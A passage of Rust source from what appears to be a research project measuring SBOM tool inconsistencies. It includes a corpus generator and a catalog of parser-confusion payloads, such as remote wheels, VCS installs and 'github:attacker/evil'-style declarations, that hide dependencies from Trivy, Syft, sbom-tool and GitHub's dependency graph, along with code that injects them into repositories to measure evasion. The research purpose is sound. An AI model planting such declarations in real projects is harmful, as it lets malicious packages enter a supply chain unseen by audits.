            parse_req(&spec, ConstraintFlavor::Cargo),
            dev,
        ));
        deps.push((name.to_string(), spec, dev));
    }
    repo.add_text("Cargo.toml", render::cargo_toml("synthetic-app", &deps));
    if rng.gen_bool(0.40) {
        for c in 0..rng.gen_range(1..4) {
            let sub: Vec<(String, String, bool)> = deps
                .iter()
                .take(rng.gen_range(1..deps.len().max(2)))
                .cloned()
                .collect();
            repo.add_text(
                format!("crates/sub{c}/Cargo.toml"),
                render::cargo_toml(&format!("sub{c}"), &sub),
            );
        }
    }
    // 44% of Rust repositories carry Cargo.lock (56% raw-only, §V-A).
    if rng.gen_bool(0.44) {
        let rows = resolve_rows(registry, &roots, DedupPolicy::PerMajor);
        let mut lock_rows: Vec<(String, String)> = rows
            .iter()
            .map(|r| (r.name.clone(), r.version.clone()))
            .collect();
        lock_rows.push(("synthetic-app".to_string(), "0.1.0".to_string()));
        repo.add_text("Cargo.lock", render::cargo_lock(&lock_rows));
    }
    if rng.gen_bool(0.05) {
        let rows = resolve_rows(registry, &roots, DedupPolicy::PerMajor);
        let bins: Vec<(&str, &str)> = rows
            .iter()
            .map(|r| (r.name.as_str(), r.version.as_str()))
            .collect();
        repo.add_bytes(
            "target/release/app.rustbin",
            sbomdiff_metadata::rust_lang::render_rust_binary(&bins),
        );
    }
}

// ---------------------------------------------------------------- Swift

const SUBSPECS: [&str; 4] = ["Core", "Auth", "Network", "UI"];

fn gen_swift(registry: &PackageUniverse, rng: &mut StdRng, repo: &mut RepoFs) {
    if rng.gen_bool(0.60) {
        // CocoaPods project.
        let n_12 = rng.gen_range(3..10);
        let picked = pick(registry, rng, n_12);
        let mut pods = Vec::new();
        let mut roots = Vec::new();
        for (name, versions) in &picked {
            let v = pick_version(versions, rng);
            let display = if rng.gen_bool(0.30) {
                format!("{name}/{}", SUBSPECS[rng.gen_range(0..SUBSPECS.len())])
            } else {
                name.to_string()
            };
            let req_text = rng
                .gen_bool(0.55)
                .then(|| format!("~> {}.{}", v.segment(0), v.segment(1)));
            pods.push((display, req_text.clone()));
            roots.push((
                name.to_string(),
                req_text
                    .as_deref()
                    .and_then(|t| parse_req(t, ConstraintFlavor::RubyGems)),
                false,
            ));
        }
        repo.add_text("Podfile", render::podfile(&pods));
        if rng.gen_bool(0.85) {
            let rows = resolve_rows(registry, &roots, DedupPolicy::HighestWins);
            let mut lock_pods: Vec<(String, String, Vec<String>)> = Vec::new();
            // Subspec pods list the subspec entry plus its base pod.
            for (display, _) in &pods {
                if display.contains('/') {
                    let base = display.split('/').next().unwrap_or(display);
                    if let Some(row) = rows.iter().find(|r| r.name == base) {
                        lock_pods.push((
                            display.clone(),
                            row.version.clone(),
                            vec![format!("{base} (= {})", row.version)],
                        ));
                    }
                }
            }
            for row in &rows {
                lock_pods.push((row.name.clone(), row.version.clone(), Vec::new()));
            }
            repo.add_text("Podfile.lock", render::podfile_lock(&lock_pods, &pods));
            // Pod libraries ship an Example app with its own Podfile.lock
            // repeating the pods (§V-G; Table I's small Swift rates).
            if rng.gen_bool(0.20) {
                let take = lock_pods.len().clamp(1, 3);
                let sample: Vec<(String, String, Vec<String>)> =
                    lock_pods.iter().take(take).cloned().collect();
                let sample_direct: Vec<(String, Option<String>)> =
                    pods.iter().take(1).cloned().collect();
                repo.add_text(
                    "Example/Podfile.lock",
                    render::podfile_lock(&sample, &sample_direct),
                );
            }
        }
    } else {
        // SwiftPM project.
        let n_13 = rng.gen_range(3..10);
        let picked = pick(registry, rng, n_13);
        let mut deps = Vec::new();
        let mut pins = Vec::new();
        for (name, versions) in &picked {
            let v = pick_version(versions, rng);
            let url = format!("https://github.com/synthetic/{name}.git");
            let req = match rng.gen_range(0..100) {
                0..=69 => format!("from: \"{v}\""),
                70..=84 => format!("exact: \"{v}\""),
                _ => format!(".upToNextMinor(from: \"{v}\")"),
            };
            deps.push((url, req));
            pins.push((name.to_string(), v.to_string()));
        }
        repo.add_text("Package.swift", render::package_swift(&deps));
        if rng.gen_bool(0.60) {
            repo.add_text("Package.resolved", render::package_resolved(&pins));
        }
    }
}

// --------------------------------------------------------------- .NET

fn gen_dotnet(registry: &PackageUniverse, rng: &mut StdRng, repo: &mut RepoFs) {
    let n_projects = rng.gen_range(1..3);
    let mut all_roots = Vec::new();
    let mut shared: Vec<(String, String)> = Vec::new();
    let has_lockfiles = rng.gen_bool(0.10);
    for p in 0..n_projects {
        let n = rng.gen_range(3..10);
        let picked = pick(registry, rng, n);
        let mut refs = Vec::new();
        // Projects in one solution share a common core of references
        // (§V-G duplicates).
        for (name, version) in shared.iter().take(2) {
            refs.push((name.clone(), version.clone()));
        }
        for (name, versions) in &picked {
            let v = pick_version(versions, rng);
            refs.push((name.to_string(), v.to_string()));
        }
        for (name, version) in &refs {
            all_roots.push((
                name.clone(),
                parse_req(version, ConstraintFlavor::Maven),
                false,
            ));
        }
        if p == 0 {
            shared = refs.iter().take(3).cloned().collect();
        }
        let dir = if p == 0 {
            "App".to_string()
        } else {
            format!("Lib{p}")
        };
        repo.add_text(format!("{dir}/{dir}.csproj"), render::csproj(&refs));
        if has_lockfiles {
            let roots: Vec<(String, Option<VersionReq>, bool)> = refs
                .iter()
                .map(|(n, v)| (n.clone(), parse_req(v, ConstraintFlavor::Maven), false))
                .collect();
            let rows = resolve_rows(registry, &roots, DedupPolicy::FirstWins);
            let lock: Vec<(String, String, bool)> = rows
                .iter()
                .map(|r| {
                    let direct = refs.iter().any(|(n, _)| *n == r.name);
                    (r.name.clone(), r.version.clone(), direct)
                })
                .collect();
            repo.add_text(
                format!("{dir}/packages.lock.json"),
                render::packages_lock_json(&lock),
            );
        }
    }
    if rng.gen_bool(0.20) {
        let rows: Vec<LockRow> = all_roots
            .iter()
            .take(6)
            .filter_map(|(n, r, _)| {
                r.as_ref()
                    .and_then(|r| r.pinned())
                    .map(|v| LockRow::new(n.clone(), v.to_string(), false))
            })
            .collect();
        repo.add_text("legacy/packages.config", render::packages_config(&rows));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;
    use sbomdiff_registry::Registries;

    #[test]
    fn python_repo_has_requirements() {
        let regs = Registries::generate(7);
        let mut rng = StdRng::seed_from_u64(1);
        let repo = gen_repo(
            Ecosystem::Python,
            regs.for_ecosystem(Ecosystem::Python),
            &mut rng,
            0,
        );
        assert!(repo.text("requirements.txt").is_some());
    }

    #[test]
    fn lockfiles_are_consistent_with_registry() {
        // Every lockfile row the corpus writes must name a version that
        // actually exists in the registry.
        let regs = Registries::generate(7);
        for eco in [Ecosystem::JavaScript, Ecosystem::Ruby, Ecosystem::Php] {
            let registry = regs.for_ecosystem(eco);
            for i in 0..10 {
                let mut rng = StdRng::seed_from_u64(100 + i);
                let repo = gen_repo(eco, registry, &mut rng, i as usize);
                for (path, kind) in repo.metadata_files() {
                    if !kind.is_lockfile() {
                        continue;
                    }
                    let deps = match kind {
                        sbomdiff_metadata::MetadataKind::PackageLockJson => {
                            sbomdiff_metadata::javascript::parse_package_lock(
                                repo.text(path).unwrap(),
                            )
                        }
                        sbomdiff_metadata::MetadataKind::GemfileLock => {
                            sbomdiff_metadata::ruby::parse_gemfile_lock(repo.text(path).unwrap())
                        }
                        sbomdiff_metadata::MetadataKind::ComposerLock => {
                            sbomdiff_metadata::php::parse_composer_lock(repo.text(path).unwrap())
                        }
                        _ => continue,
                    };
                    for dep in deps {
                        let versions = registry.versions(dep.name.raw());
                        assert!(
                            !versions.is_empty(),
                            "{eco}: lockfile {path} references unknown package {}",
                            dep.name.raw()
                        );
                    }
                }
            }
        }
    }

    #[test]
    fn go_mod_marks_transitives_indirect() {
        let regs = Registries::generate(7);
        let mut rng = StdRng::seed_from_u64(5);
        let repo = gen_repo(
            Ecosystem::Go,
            regs.for_ecosystem(Ecosystem::Go),
            &mut rng,
            0,
        );
        let text = repo.text("go.mod").unwrap();
        assert!(text.contains("require ("));
    }
}

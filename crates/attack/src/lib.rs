//! The parser-confusion attack (§VI).
//!
//! A parser confusion attack exploits inconsistencies among parsers
//! processing the same input: a dependency declaration that is perfectly
//! valid for pip is invisible to (or misread by) the SBOM tools' custom
//! parsers, so a malicious, vulnerable, or license-encumbered package can
//! ride into the supply chain without appearing in any SBOM.
//!
//! [`catalog`] holds the attack patterns (the six Table IV samples plus
//! extended patterns from the §VII benchmark); [`evaluate`] runs them
//! against the tool emulators and checks the expected per-cell outcomes;
//! [`campaign`] injects attacks into a whole corpus and measures evasion
//! rates.

pub mod campaign;
pub mod catalog;
pub mod evaluate;

pub use campaign::{run_campaign, CampaignReport};
pub use catalog::{AttackSample, Expectation, TABLE_IV_SAMPLES};
pub use evaluate::{evaluate_sample, CellOutcome, SampleOutcome};

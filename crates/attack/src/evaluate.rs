//! Runs attack samples against the four tool emulators and compares the
//! observed outcomes with the expected Table IV cells.

use sbomdiff_generators::{SbomGenerator, ToolEmulator, ToolId};
use sbomdiff_metadata::RepoFs;
use sbomdiff_registry::Registries;

use crate::catalog::AttackSample;

/// What one tool reported for one sample.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CellOutcome {
    /// Nothing related to the concealed package was reported (`-`).
    Missed,
    /// The tool reported this name and version.
    Detected(String, Option<String>),
}

impl std::fmt::Display for CellOutcome {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            CellOutcome::Missed => f.write_str("-"),
            CellOutcome::Detected(name, Some(v)) => write!(f, "{name} {v}"),
            CellOutcome::Detected(name, None) => f.write_str(name),
        }
    }
}

/// Outcome of one sample across the four studied tools.
#[derive(Debug, Clone)]
pub struct SampleOutcome {
    /// Sample id.
    pub id: &'static str,
    /// Display form of the declaration.
    pub display: &'static str,
    /// Observed cells in Table IV column order.
    pub cells: [CellOutcome; 4],
    /// Whether every cell matched the expectation.
    pub matches_expectation: bool,
    /// Number of tools that completely missed the concealed package —
    /// the sample's evasion power.
    pub evaded_tools: usize,
}

/// Builds a minimal repository carrying the sample's payload.
pub fn sample_repo(sample: &AttackSample) -> RepoFs {
    let mut repo = RepoFs::new(format!("attack-{}", sample.id));
    repo.add_text(sample.file_name, sample.payload);
    for (path, content) in sample.extra_files {
        repo.add_text(*path, *content);
    }
    repo
}

/// Runs one sample against the four studied tools (sbom-tool gets a
/// reliable registry so Table IV outcomes are deterministic).
pub fn evaluate_sample(sample: &AttackSample, registries: &Registries) -> SampleOutcome {
    let repo = sample_repo(sample);
    let tools: [ToolEmulator<'_>; 4] = [
        ToolEmulator::trivy(),
        ToolEmulator::syft(),
        ToolEmulator::sbom_tool(registries, 0.0),
        ToolEmulator::github_dg(),
    ];
    let mut cells = [
        CellOutcome::Missed,
        CellOutcome::Missed,
        CellOutcome::Missed,
        CellOutcome::Missed,
    ];
    let concealed_canonical = sbomdiff_types::name::normalize(sample.ecosystem, sample.concealed);
    for (i, tool) in tools.iter().enumerate() {
        let sbom = tool.generate(&repo);
        // The cell shows what (if anything) the tool reported for the
        // concealed package; transitives pulled alongside don't count as
        // detecting the declaration.
        let hit = sbom.components().iter().find(|c| {
            sbomdiff_types::name::normalize(sample.ecosystem, &c.name) == concealed_canonical
        });
        if let Some(c) = hit {
            cells[i] =
                CellOutcome::Detected(c.name.to_string(), c.version.as_deref().map(String::from));
        }
    }
    let matches_expectation = sample
        .expected
        .iter()
        .zip(&cells)
        .all(|(e, c)| e.matches(c));
    let evaded_tools = cells
        .iter()
        .filter(|c| matches!(c, CellOutcome::Missed))
        .count();
    SampleOutcome {
        id: sample.id,
        display: sample.display,
        cells,
        matches_expectation,
        evaded_tools,
    }
}

/// Evaluates the whole Table IV (plus extended and cross-ecosystem
/// samples when requested).
pub fn evaluate_catalog(registries: &Registries, include_extended: bool) -> Vec<SampleOutcome> {
    let mut out: Vec<SampleOutcome> = crate::catalog::TABLE_IV_SAMPLES
        .iter()
        .map(|s| evaluate_sample(s, registries))
        .collect();
    if include_extended {
        out.extend(
            crate::catalog::EXTENDED_SAMPLES
                .iter()
                .chain(crate::catalog::CROSS_ECOSYSTEM_SAMPLES.iter())
                .map(|s| evaluate_sample(s, registries)),
        );
    }
    out
}

/// The four tool labels in Table IV column order.
pub fn column_labels() -> [&'static str; 4] {
    [
        ToolId::Trivy.label(),
        ToolId::Syft.label(),
        ToolId::SbomTool.label(),
        ToolId::GithubDg.label(),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::catalog::{EXTENDED_SAMPLES, TABLE_IV_SAMPLES};

    /// The central attack claim of the paper: every Table IV cell
    /// reproduces exactly.
    #[test]
    fn table_iv_reproduces_cell_exact() {
        let regs = Registries::generate(77);
        for sample in &TABLE_IV_SAMPLES {
            let outcome = evaluate_sample(sample, &regs);
            assert!(
                outcome.matches_expectation,
                "sample {} diverged: observed {:?}",
                sample.id, outcome.cells
            );
        }
    }

    #[test]
    fn extended_samples_reproduce() {
        let regs = Registries::generate(77);
        for sample in &EXTENDED_SAMPLES {
            let outcome = evaluate_sample(sample, &regs);
            assert!(
                outcome.matches_expectation,
                "sample {} diverged: observed {:?}",
                sample.id, outcome.cells
            );
        }
    }

    #[test]
    fn five_of_six_rows_evade_all_four_tools() {
        let regs = Registries::generate(77);
        let outcomes = evaluate_catalog(&regs, false);
        let fully_evading = outcomes.iter().filter(|o| o.evaded_tools == 4).count();
        assert_eq!(fully_evading, 5);
        // The backslash row evades three (sbom-tool reports a *wrong*
        // version, which is arguably worse than missing it).
        let backslash = outcomes
            .iter()
            .find(|o| o.id == "backslash-continuation")
            .unwrap();
        assert_eq!(backslash.evaded_tools, 3);
    }

    #[test]
    fn cross_ecosystem_samples_reproduce() {
        let regs = Registries::generate(77);
        for sample in &crate::catalog::CROSS_ECOSYSTEM_SAMPLES {
            let outcome = evaluate_sample(sample, &regs);
            assert!(
                outcome.matches_expectation,
                "sample {} diverged: observed {:?}",
                sample.id, outcome.cells
            );
        }
    }

    #[test]
    fn cell_outcome_display() {
        assert_eq!(CellOutcome::Missed.to_string(), "-");
        assert_eq!(
            CellOutcome::Detected("numpy".into(), Some("1.25.2".into())).to_string(),
            "numpy 1.25.2"
        );
    }
}

//! Attack campaigns: inject confusion patterns into a whole corpus and
//! measure how reliably each tool misses the concealed packages
//! ("Achieving Damage", §VI).

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use sbomdiff_generators::{SbomGenerator, ToolEmulator, ToolId};
use sbomdiff_metadata::RepoFs;
use sbomdiff_registry::Registries;
use sbomdiff_types::Ecosystem;

use crate::catalog::{AttackSample, TABLE_IV_SAMPLES};

/// Per-tool evasion statistics for a campaign.
#[derive(Debug, Clone, Default)]
pub struct CampaignReport {
    /// Repositories attacked.
    pub repos_attacked: usize,
    /// Per tool (Table IV column order): number of attacked repositories
    /// where the concealed package did NOT appear in the tool's SBOM.
    pub evasions: [usize; 4],
}

impl CampaignReport {
    /// Evasion rate for tool column `i`.
    pub fn evasion_rate(&self, i: usize) -> f64 {
        if self.repos_attacked == 0 {
            0.0
        } else {
            self.evasions[i] as f64 / self.repos_attacked as f64
        }
    }
}

/// Injects `sample` into every Python repository of `repos` (appending the
/// payload to its main requirements file) and measures evasion per tool.
pub fn run_campaign(
    repos: &[RepoFs],
    sample: &AttackSample,
    registries: &Registries,
    seed: u64,
) -> CampaignReport {
    let mut rng = StdRng::seed_from_u64(seed);
    let tools: [ToolEmulator<'_>; 4] = [
        ToolEmulator::trivy(),
        ToolEmulator::syft(),
        ToolEmulator::sbom_tool(registries, 0.0),
        ToolEmulator::github_dg(),
    ];
    let concealed = sbomdiff_types::name::normalize(Ecosystem::Python, sample.concealed);
    let mut report = CampaignReport::default();
    for repo in repos {
        let Some(existing) = repo.text("requirements.txt") else {
            continue;
        };
        let mut attacked = repo.clone();
        // Splice the payload at a random position among existing lines so
        // the injection isn't trivially at the end.
        let mut lines: Vec<&str> = existing.lines().collect();
        let pos = rng.gen_range(0..=lines.len());
        let payload = sample.payload.trim_end();
        lines.insert(pos, payload);
        attacked.add_text("requirements.txt", lines.join("\n") + "\n");
        for (path, content) in sample.extra_files {
            attacked.add_text(*path, *content);
        }
        report.repos_attacked += 1;
        for (i, tool) in tools.iter().enumerate() {
            let sbom = tool.generate(&attacked);
            let found = sbom
                .components()
                .iter()
                .any(|c| sbomdiff_types::name::normalize(Ecosystem::Python, &c.name) == concealed);
            if !found {
                report.evasions[i] += 1;
            }
        }
    }
    report
}

/// Runs the full Table IV catalog as campaigns over a corpus; returns
/// `(sample id, report)` pairs.
pub fn run_all_campaigns(
    repos: &[RepoFs],
    registries: &Registries,
    seed: u64,
) -> Vec<(&'static str, CampaignReport)> {
    TABLE_IV_SAMPLES
        .iter()
        .map(|s| (s.id, run_campaign(repos, s, registries, seed)))
        .collect()
}

/// Column labels matching the report's tool order.
pub fn tool_labels() -> [&'static str; 4] {
    [
        ToolId::Trivy.label(),
        ToolId::Syft.label(),
        ToolId::SbomTool.label(),
        ToolId::GithubDg.label(),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use sbomdiff_corpus::{Corpus, CorpusConfig};

    #[test]
    fn vcs_attack_evades_everywhere() {
        let regs = Registries::generate(31);
        let repos = Corpus::build_language(
            &regs,
            &CorpusConfig {
                repos_per_language: 12,
                seed: 9,
            },
            Ecosystem::Python,
        );
        let sample = TABLE_IV_SAMPLES
            .iter()
            .find(|s| s.id == "vcs-install")
            .unwrap();
        let report = run_campaign(&repos, sample, &regs, 1);
        assert!(report.repos_attacked > 0);
        for i in 0..4 {
            assert!(
                (report.evasion_rate(i) - 1.0).abs() < 1e-9,
                "tool {i} should never see the VCS install"
            );
        }
    }

    #[test]
    fn backslash_attack_evades_three_tools() {
        let regs = Registries::generate(31);
        let repos = Corpus::build_language(
            &regs,
            &CorpusConfig {
                repos_per_language: 12,
                seed: 9,
            },
            Ecosystem::Python,
        );
        let sample = TABLE_IV_SAMPLES
            .iter()
            .find(|s| s.id == "backslash-continuation")
            .unwrap();
        let report = run_campaign(&repos, sample, &regs, 1);
        // Trivy, Syft, GitHub: full evasion. sbom-tool: reports (wrong
        // version), so evasion 0 — unless numpy already appeared.
        assert!((report.evasion_rate(0) - 1.0).abs() < 1e-9);
        assert!((report.evasion_rate(1) - 1.0).abs() < 1e-9);
        assert!(report.evasion_rate(2) < 0.2);
        assert!((report.evasion_rate(3) - 1.0).abs() < 1e-9);
    }
}

//! The attack-sample catalog.
//!
//! The first six samples are exactly the rows of the paper's Table IV
//! (including the paper's `urlib3` spelling); the remainder extend the
//! catalog with corner cases from the §VII benchmark.

use sbomdiff_types::Ecosystem;

use crate::evaluate::CellOutcome;

/// What a specific tool is expected to report for a sample (a Table IV
/// cell).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Expectation {
    /// The tool reports nothing for the declaration (a `-` cell).
    Nothing,
    /// The tool reports this name/version.
    Reports(&'static str, Option<&'static str>),
    /// The tool reports the name with some range/verbatim version text.
    ReportsNameOnly(&'static str),
}

impl Expectation {
    /// Checks an observed outcome against this expectation.
    pub fn matches(&self, outcome: &CellOutcome) -> bool {
        match (self, outcome) {
            (Expectation::Nothing, CellOutcome::Missed) => true,
            (Expectation::Reports(name, version), CellOutcome::Detected(n, v)) => {
                n == name && v.as_deref() == *version
            }
            (Expectation::ReportsNameOnly(name), CellOutcome::Detected(n, _)) => n == name,
            _ => false,
        }
    }
}

/// One attack pattern: a metadata payload concealing a package.
#[derive(Debug, Clone)]
pub struct AttackSample {
    /// Short identifier.
    pub id: &'static str,
    /// The declaration as the paper's Table IV presents it.
    pub display: &'static str,
    /// Target ecosystem (Python for the paper's Table IV; the extended
    /// catalog covers other ecosystems, per the paper's §X future work).
    pub ecosystem: Ecosystem,
    /// The metadata file the payload is written to.
    pub file_name: &'static str,
    /// The payload content (may span lines).
    pub payload: &'static str,
    /// Extra files the payload references (path, content).
    pub extra_files: &'static [(&'static str, &'static str)],
    /// The package pip would actually install/fetch (the concealed one).
    pub concealed: &'static str,
    /// Expected per-tool outcomes: (Trivy, Syft, sbom-tool, GitHub DG).
    pub expected: [Expectation; 4],
}

/// The six rows of Table IV.
pub const TABLE_IV_SAMPLES: [AttackSample; 6] = [
    AttackSample {
        id: "extras-space",
        display: "requests [security]>=2.8.1",
        ecosystem: Ecosystem::Python,
        file_name: "requirements.txt",
        payload: "requests [security]>=2.8.1\n",
        extra_files: &[],
        concealed: "requests",
        expected: [
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::Nothing,
        ],
    },
    AttackSample {
        id: "backslash-continuation",
        display: "numpy \\ == \\ 1.19.2",
        ecosystem: Ecosystem::Python,
        file_name: "requirements.txt",
        payload: "numpy \\\n==\\\n1.19.2\n",
        extra_files: &[],
        concealed: "numpy",
        expected: [
            Expectation::Nothing,
            Expectation::Nothing,
            // sbom-tool salvages the bare name and pins the registry's
            // latest — reporting numpy 1.25.2 while pip installs 1.19.2.
            Expectation::Reports("numpy", Some("1.25.2")),
            Expectation::Nothing,
        ],
    },
    AttackSample {
        id: "requirements-include",
        display: "-r SOME_REQS.txt",
        ecosystem: Ecosystem::Python,
        file_name: "requirements.txt",
        payload: "-r SOME_REQS.txt\n",
        extra_files: &[("SOME_REQS.txt", "requests==2.8.1\n")],
        concealed: "requests",
        expected: [
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::Nothing,
        ],
    },
    AttackSample {
        id: "local-wheel",
        display: "./path/to/local_pkg.whl",
        ecosystem: Ecosystem::Python,
        file_name: "requirements.txt",
        payload: "./path/to/local_pkg.whl\n",
        extra_files: &[],
        concealed: "local_pkg",
        expected: [
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::Nothing,
        ],
    },
    AttackSample {
        id: "remote-wheel",
        display: "https://remote_pkg.whl",
        ecosystem: Ecosystem::Python,
        file_name: "requirements.txt",
        payload: "https://remote_pkg.whl\n",
        extra_files: &[],
        concealed: "remote_pkg",
        expected: [
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::Nothing,
        ],
    },
    AttackSample {
        id: "vcs-install",
        display: "urlib3 @ git link@hash",
        ecosystem: Ecosystem::Python,
        file_name: "requirements.txt",
        // The paper's sample (with its original 'urlib3' spelling — itself
        // a typosquat-shaped name).
        payload: "urlib3 @ git+https://github.com/urllib3/urllib3@2a7eb51\n",
        extra_files: &[],
        concealed: "urlib3",
        expected: [
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::Nothing,
        ],
    },
];

/// Extended corner-case patterns from the §VII benchmark.
pub const EXTENDED_SAMPLES: [AttackSample; 5] = [
    AttackSample {
        id: "attached-extras-pinned",
        display: "celery[redis]==5.3.0",
        ecosystem: Ecosystem::Python,
        file_name: "requirements.txt",
        payload: "requests[socks]==2.31.0\n",
        extra_files: &[],
        concealed: "requests",
        expected: [
            // Trivy/Syft: the bracket breaks their name token — dropped.
            Expectation::Nothing,
            Expectation::Nothing,
            // sbom-tool strips the extras and reports the pin (but never
            // installs the extra's dependencies, a silent omission).
            Expectation::Reports("requests", Some("2.31.0")),
            Expectation::Reports("requests", Some("2.31.0")),
        ],
    },
    AttackSample {
        id: "spaced-pin",
        display: "requests == 2.31.0",
        ecosystem: Ecosystem::Python,
        file_name: "requirements.txt",
        payload: "requests == 2.31.0\n",
        extra_files: &[],
        concealed: "requests",
        expected: [
            Expectation::Reports("requests", Some("2.31.0")),
            Expectation::Reports("requests", Some("2.31.0")),
            Expectation::Reports("requests", Some("2.31.0")),
            // GitHub DG reports the spec text verbatim — the version field
            // reads "== 2.31.0", which version matchers treat as wrong.
            Expectation::Reports("requests", Some("== 2.31.0")),
        ],
    },
    AttackSample {
        id: "marker-smuggle",
        display: "requests==2.8.1; sys_platform == 'win32'",
        ecosystem: Ecosystem::Python,
        file_name: "requirements.txt",
        payload: "requests==2.8.1; sys_platform == 'win32'\n",
        extra_files: &[],
        concealed: "requests",
        // Inverse attack: nothing is installed on Linux, but every tool
        // reports it — a false positive that masks the true dependency set.
        expected: [
            Expectation::Reports("requests", Some("2.8.1")),
            Expectation::Reports("requests", Some("2.8.1")),
            Expectation::Reports("requests", Some("2.8.1")),
            Expectation::Reports("requests", Some("2.8.1")),
        ],
    },
    AttackSample {
        id: "editable-install",
        display: "-e ./vendored/evil",
        ecosystem: Ecosystem::Python,
        file_name: "requirements.txt",
        payload: "-e ./vendored/evil\n",
        extra_files: &[],
        concealed: "evil",
        expected: [
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::Nothing,
        ],
    },
    AttackSample {
        id: "hash-option-tail",
        display: "requests==2.31.0 --hash=sha256:...",
        ecosystem: Ecosystem::Python,
        file_name: "requirements.txt",
        payload: "requests==2.31.0 --hash=sha256:deadbeef\n",
        extra_files: &[],
        concealed: "requests",
        expected: [
            // The trailing option breaks Trivy/Syft's version token and
            // sbom-tool's anchored grammar; GitHub DG handles pip-compile
            // hash options.
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::Reports("requests", Some("2.31.0")),
        ],
    },
];

/// Cross-ecosystem confusion patterns (§X future work: "extend our
/// benchmark to support languages beyond just Python").
pub const CROSS_ECOSYSTEM_SAMPLES: [AttackSample; 4] = [
    AttackSample {
        id: "cargo-raw-only",
        display: "Cargo.toml: malicious-crate = \"1.0\" (no lockfile)",
        ecosystem: Ecosystem::Rust,
        file_name: "Cargo.toml",
        payload: "[package]\nname = \"app\"\nversion = \"0.1.0\"\n\n[dependencies]\nmalicious-crate = \"1.0\"\n",
        extra_files: &[],
        concealed: "malicious-crate",
        // Only GitHub DG reads raw Cargo.toml (Table II) — three of four
        // tools never see the dependency at all.
        expected: [
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::ReportsNameOnly("malicious-crate"),
        ],
    },
    AttackSample {
        id: "gemfile-git-source",
        display: "Gemfile: gem 'evil', git: 'https://...'",
        ecosystem: Ecosystem::Ruby,
        file_name: "Gemfile",
        payload: "source 'https://rubygems.org'\ngem 'evil', git: 'https://github.com/attacker/evil'\n",
        extra_files: &[],
        concealed: "evil",
        // VCS-sourced gems are skipped even by the one tool that parses
        // Gemfiles — full evasion.
        expected: [
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::Nothing,
        ],
    },
    AttackSample {
        id: "package-json-git-spec",
        display: "package.json: \"evil\": \"github:attacker/evil\"",
        ecosystem: Ecosystem::JavaScript,
        file_name: "package.json",
        payload: "{\"name\": \"app\", \"dependencies\": {\"evil\": \"github:attacker/evil\"}}",
        extra_files: &[],
        concealed: "evil",
        // GitHub DG reports the name with an unmatchable verbatim spec —
        // visible in the SBOM but invisible to version-matching scanners;
        // Trivy/Syft claim package.json support but extract nothing (§V-A).
        expected: [
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::ReportsNameOnly("evil"),
        ],
    },
    AttackSample {
        id: "composer-dev-section",
        display: "composer.json require-dev hides a package from Trivy",
        ecosystem: Ecosystem::Php,
        file_name: "composer.json",
        payload: "{\"name\": \"app/app\", \"require\": {\"php\": \">=8.0\"}, \"require-dev\": {\"attacker/evil\": \"^1.0\"}}",
        extra_files: &[],
        concealed: "attacker/evil",
        // Production-only tools (§V-F) never report dev-scoped packages —
        // and the dev section still installs on developer machines.
        expected: [
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::Nothing,
            Expectation::ReportsNameOnly("attacker/evil"),
        ],
    },
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table_iv_has_six_rows() {
        assert_eq!(TABLE_IV_SAMPLES.len(), 6);
        let ids: std::collections::BTreeSet<&str> = TABLE_IV_SAMPLES.iter().map(|s| s.id).collect();
        assert_eq!(ids.len(), 6);
    }

    #[test]
    fn only_numpy_row_has_a_detection() {
        for sample in &TABLE_IV_SAMPLES {
            let detections = sample
                .expected
                .iter()
                .filter(|e| !matches!(e, Expectation::Nothing))
                .count();
            if sample.id == "backslash-continuation" {
                assert_eq!(detections, 1);
            } else {
                assert_eq!(detections, 0, "{} should be all dashes", sample.id);
            }
        }
    }

    #[test]
    fn expectation_matching() {
        assert!(Expectation::Nothing.matches(&CellOutcome::Missed));
        assert!(!Expectation::Nothing.matches(&CellOutcome::Detected("x".into(), Some("1".into()))));
        assert!(
            Expectation::Reports("numpy", Some("1.25.2")).matches(&CellOutcome::Detected(
                "numpy".into(),
                Some("1.25.2".into())
            ))
        );
        assert!(
            !Expectation::Reports("numpy", Some("1.25.2")).matches(&CellOutcome::Detected(
                "numpy".into(),
                Some("1.19.2".into())
            ))
        );
        assert!(Expectation::ReportsNameOnly("x").matches(&CellOutcome::Detected("x".into(), None)));
    }
}

//! Seeded chaos soak: run N deterministic fault plans against the full
//! stack and assert the resilience contract.
//!
//! Per plan, two phases:
//!
//! 1. **Direct attribution** — hand-rolled multi-ecosystem repositories
//!    are analyzed by every studied tool (each under a panic boundary) and
//!    a root set is resolved directly through the resolver engine, with
//!    fault-counter snapshots taken around the phase. Invariants: the
//!    accounting balances (`injected == recovered + surfaced`), and any
//!    surfaced fault left *evidence* — a diagnostic, a resolution failure,
//!    a pruned transitive, or a caught panic. Nothing is silently lost.
//! 2. **Service soak** — the loadgen runs the same clean pre-built payload
//!    set through in-process servers at `jobs=1` and `jobs=4` under the
//!    same plan. Invariants: response digests are byte-identical across
//!    worker counts, no panic reaches the worker-pool boundary, and the
//!    only non-2xx statuses are deliberate 503s (deadline shedding).
//!
//! Everything is derived from `(seed, plan index)`; a failing run is
//! reproducible from its seed alone.

use std::panic::{catch_unwind, AssertUnwindSafe};

use sbomdiff_faultline as fault;
use sbomdiff_generators::SbomGenerator;
use sbomdiff_metadata::RepoFs;
